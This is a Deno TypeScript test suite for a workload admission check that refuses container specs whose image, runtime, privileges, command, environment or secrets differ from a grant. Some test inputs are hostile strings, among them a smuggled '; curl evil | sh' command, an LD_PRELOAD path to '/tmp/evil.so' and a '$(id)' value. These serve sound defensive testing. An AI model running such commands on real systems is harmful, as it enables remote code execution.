import assert from "node:assert/strict";
import { MalformedError } from "../malformed.ts";
import type { Reason, Verdict } from "../refusal.ts";
import { covers } from "./coverage.ts";
import { dispatchedSpec, forgeSpec } from "./forge_fixture.ts";
import type { AdmissionGrant } from "./grant.ts";
import { GRANT } from "./grant_fixture.ts";
import type { ImageRef } from "./image.ts";
import type { WorkloadSpec } from "./spec.ts";

const ADMIT: Verdict = { granted: true, decision: "admit" };

function reasons(verdict: Verdict): readonly Reason[] {
  return verdict.granted ? [] : [verdict.reason, ...(verdict.also ?? [])];
}

/** Asserts that a spec is refused for these mismatches in this order, in both profiles. */
function mismatches(
  spec: WorkloadSpec,
  expected: readonly [field: string, path: string, admitted?: unknown, found?: unknown][],
  grant: AdmissionGrant = GRANT,
): void {
  for (const coverage of ["strict", "reference"] as const) {
    const verdict = covers(grant, spec, { coverage });
    assert.equal(verdict.granted, false);
    assert.equal(verdict.granted ? "" : verdict.law, "L3");
    const found = reasons(verdict).map((why) => {
      assert.equal(why.code, "mismatch");
      const { message: _, code: __, ...facts } = why;
      return facts;
    });
    assert.deepEqual(
      found,
      expected.map(([field, path, admitted, found]) => ({
        field,
        path,
        ...(admitted === undefined ? {} : { admitted }),
        ...(found === undefined ? {} : { found }),
      })),
    );
  }
}

function admits(spec: WorkloadSpec, grant: AdmissionGrant = GRANT): void {
  for (const coverage of ["strict", "reference"] as const) {
    assert.deepEqual(covers(grant, spec, { coverage }), ADMIT);
  }
}

const literal = (name: string, value = "") => ({ name, value: { literal: { value } } });

Deno.test("a grant covers the dispatch it was cut for", () => admits(dispatchedSpec()));

Deno.test("another digest, tag or registry is another image", () => {
  const { image } = dispatchedSpec();
  const swaps: Partial<ImageRef>[] = [
    { digest: `sha256:${"0".repeat(64)}` },
    { tag: "latest" },
    { registry: "registry.attacker" },
  ];
  for (const swap of swaps) {
    const other = { ...image, ...swap };
    const found = `${other.registry}/${other.repository}:${other.tag}@${other.digest}`;
    mismatches(dispatchedSpec({ image: other }), [["image", "/image", GRANT.image, found]]);
  }
});

Deno.test("another tier is refused, whichever is the higher", () => {
  mismatches(dispatchedSpec({ tier: "tenant" }), [["tier", "/tier", "infra", "tenant"]]);
  mismatches(dispatchedSpec({ tier: "Infra" }), [["tier", "/tier", "infra", "Infra"]]);
});

Deno.test("a grant admits one runtime, and a stronger boundary is still another", () => {
  const runtimes = ["container", "native", "microvm"];
  for (const admitted of runtimes) {
    for (const asked of runtimes) {
      const grant = { ...GRANT, runtime: admitted } as AdmissionGrant;
      const spec = dispatchedSpec({ annotations: { "yah.exec": asked } });
      if (admitted === asked) admits(spec, grant);
      else mismatches(spec, [["runtime", "/annotations/yah.exec", admitted, asked]], grant);
    }
  }
});

Deno.test("a privilege that is not granted is refused, one not asked for is no matter", () => {
  const both = { "yah.network": "host", "yah.sandbox": "nested" };
  const host = ["host-network", "/annotations/yah.network", false, true] as const;
  const nested = ["nested-sandbox", "/annotations/yah.sandbox", false, true] as const;
  const none = { ...GRANT, host_network: false, nested_sandbox: false };
  mismatches(dispatchedSpec({ annotations: both }), [[...nested]]);
  mismatches(dispatchedSpec({ annotations: both }), [[...host], [...nested]], none);
  admits(dispatchedSpec({ annotations: {} }), { ...GRANT, nested_sandbox: true });
});

Deno.test("a working directory is an instance of the template, or absent on both sides", () => {
  const template = "/var/lib/yah/qed/produced/{{id}}";
  const grant = { ...GRANT, workdir: template };
  admits(dispatchedSpec({ workdir: "/var/lib/yah/qed/produced/b41c" }), grant);
  mismatches(dispatchedSpec(), [["workdir", "/workdir", template, null]], grant);
  mismatches(dispatchedSpec({ workdir: "" }), [["workdir", "/workdir", null, ""]]);
  mismatches(
    dispatchedSpec({ workdir: "/etc" }),
    [["workdir", "/workdir", template, "/etc"]],
    grant,
  );
  // As text, not as a path.
  const slashed = dispatchedSpec({ workdir: "/work/" });
  mismatches(slashed, [["workdir", "/workdir", "/work", "/work/"]], { ...GRANT, workdir: "/work" });
});

Deno.test("each element of the command is an instance of its template", () => {
  const evil = "evil.sh 'riscv64-linux' '/yah/produced/9c2e.out'";
  mismatches(forgeSpec([evil]), [["argv", "/command/0", GRANT.argv[0], evil]]);
  const grant = { ...GRANT, argv: ["a", "{{x}}", "c"], entrypoint: ["sh", "-c"] };
  mismatches(
    forgeSpec(["A", "x;y", "c"], { entrypoint: ["sh", "-x"] }),
    [
      ["entrypoint", "/entrypoint/1", "-c", "-x"],
      ["argv", "/command/0", "a", "A"],
      ["argv", "/command/1", "{{x}}", "x;y"],
    ],
    grant,
  );
});

Deno.test("an element more or less is refused, and so is one moved to the entrypoint", () => {
  const command = dispatchedSpec().command!;
  const more = [...command, "; curl evil | sh"];
  mismatches(dispatchedSpec({ command: more }), [["argv", "/command", GRANT.argv, more]]);
  mismatches(dispatchedSpec({ command: null }), [["argv", "/command", GRANT.argv, []]]);
  mismatches(dispatchedSpec({ command: null, entrypoint: command }), [
    ["entrypoint", "/entrypoint", [], command],
    ["argv", "/command", GRANT.argv, []],
  ]);
});

Deno.test("no element and no list are the same", () => {
  admits(dispatchedSpec({ entrypoint: [] }));
  admits(dispatchedSpec({ command: null }), { ...GRANT, argv: [] });
});

Deno.test("a variable is covered by its exact name, whatever its value", () => {
  const grant = { ...GRANT, env_names: ["OUT", "TZ"] };
  admits(dispatchedSpec({ env: [literal("OUT", "$(id); ../..")] }), grant);
  admits(
    dispatchedSpec({
      env: [{ name: "TZ", value: { from_mesh: { ident: "clock", kind: "host" } } }],
    }),
    grant,
  );
  mismatches(dispatchedSpec({ env: [literal("LD_PRELOAD", "/tmp/evil.so")] }), [
    ["env", "/env/0/name", undefined, "LD_PRELOAD"],
  ]);
  mismatches(
    dispatchedSpec({ env: [literal("out"), literal("OUT"), literal("TZ "), literal("__proto__")] }),
    [
      ["env", "/env/0/name", undefined, "out"],
      ["env", "/env/2/name", undefined, "TZ "],
      ["env", "/env/3/name", undefined, "__proto__"],
    ],
    grant,
  );
});

Deno.test("a variable out of a secret is refused, though its name is admitted", () => {
  const env = [{
    name: "R2_TOKEN",
    value: { from_secret: { secret: "cosign-signing-key", key: "seed" } },
  }];
  const secret = ["env", "/env/0/value/from_secret", undefined, "cosign-signing-key"] as const;
  mismatches(dispatchedSpec({ env }), [[...secret]], { ...GRANT, env_names: ["R2_TOKEN"] });
  mismatches(dispatchedSpec({ env }), [["env", "/env/0/name", undefined, "R2_TOKEN"], [...secret]]);
});

Deno.test("the value of a variable is in no reason", () => {
  const spec = dispatchedSpec({ env: [literal("TOKEN", "hush-hush")], command: ["x"] });
  assert.equal(JSON.stringify(covers(GRANT, spec)).includes("hush"), false);
});

Deno.test("failures come in the specification's order of fields, whichever they are", () => {
  const spec = forgeSpec(["x"], {
    image: { ...dispatchedSpec().image, tag: "latest" },
    tier: "tenant",
    annotations: { "yah.exec": "native", "yah.network": "host", "yah.sandbox": "nested" },
    workdir: "/",
    entrypoint: ["sh"],
    env: [literal("A")],
    secrets: [{ source: { cluster: { name: "a" } }, target: { env_var: { name: "A" } } }],
    volumes: [{ source: { bind: { host_path: "/" } }, target: "/", read_only: true }],
    user: "root",
  });
  const fields = (coverage: "strict" | "reference") =>
    reasons(covers({ ...GRANT, host_network: false }, spec, { coverage }))
      .map((why) => why.code === "mismatch" ? why.field : why.code);
  const order = [
    ...["image", "tier", "runtime", "host-network", "nested-sandbox", "workdir", "entrypoint"],
    ...["argv", "env", "secrets", "volumes"],
  ];
  assert.deepEqual(fields("reference"), order);
  assert.deepEqual(fields("strict"), [...order, "uncovered"]);
});

Deno.test("ten thousand variables against ten thousand names are answered", () => {
  const env_names = Array.from({ length: 10_000 }, (_, at) => `NAME_${at}`);
  const spec = dispatchedSpec({ env: env_names.map((name) => literal(name)) });
  admits(spec, { ...GRANT, env_names });
  const refused = reasons(covers({ ...GRANT, env_names: env_names.slice(1) }, spec));
  assert.deepEqual(refused.map((why) => why.code === "mismatch" && why.path), ["/env/0/name"]);
  assert.equal(reasons(covers(GRANT, spec)).length, 10_000);
});

Deno.test("a grant, a spec or a profile made by hand is checked before it is judged", () => {
  const malformed = (code: string, path: string) => (error: unknown) =>
    error instanceof MalformedError && error.code === code && error.path === path;
  const spec = dispatchedSpec();
  assert.throws(
    () => covers({ ...GRANT, argv: undefined } as never, spec),
    malformed("missing_field", "/grant/argv"),
  );
  assert.throws(
    () => covers(GRANT, { ...spec, tier: null } as never),
    malformed("wrong_type", "/spec/tier"),
  );
  assert.throws(
    () => covers(GRANT, spec, { coverage: "Reference" } as never),
    malformed("unknown_variant", "/options/coverage"),
  );
  assert.throws(
    () => covers(GRANT, spec, { coverag: "reference" } as never),
    malformed("unknown_field", "/options/coverag"),
  );
});
